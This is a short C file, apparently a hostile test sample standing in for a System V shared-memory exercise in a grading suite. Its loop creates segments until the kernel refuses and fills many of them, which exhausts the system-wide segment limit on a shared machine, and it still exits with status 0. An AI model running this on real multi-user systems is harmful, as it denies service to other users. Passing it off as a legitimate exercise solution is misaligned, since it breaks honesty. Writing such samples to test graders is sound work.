/**
 * @file
 * @brief Hostile: makes segments until the kernel refuses: large ones first, then as many as there are ids.
 * Instead of: 05_sysv_create/sysv_create.c
 * Score: 0
 * Says: exit status 0
 *
 * Segments outlive their creator. On a shared machine no user can create one until these are removed, although there
 * is free memory, because shmmni is reached.
 */
#define _DEFAULT_SOURCE

#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>

int main(void)
{
    for (size_t size = (size_t)64 << 20; size > 0; size = size > 4096 ? size / 16 : 0)
        for (int id; (id = shmget(IPC_PRIVATE, size, IPC_CREAT | 0777)) >= 0;) {
            char *memory = size > 4096 ? shmat(id, NULL, 0) : (void *)-1;
            if (memory != (void *)-1) {
                memset(memory, 1, size / 8);
                shmdt(memory);
            }
        }
    return 0;
}
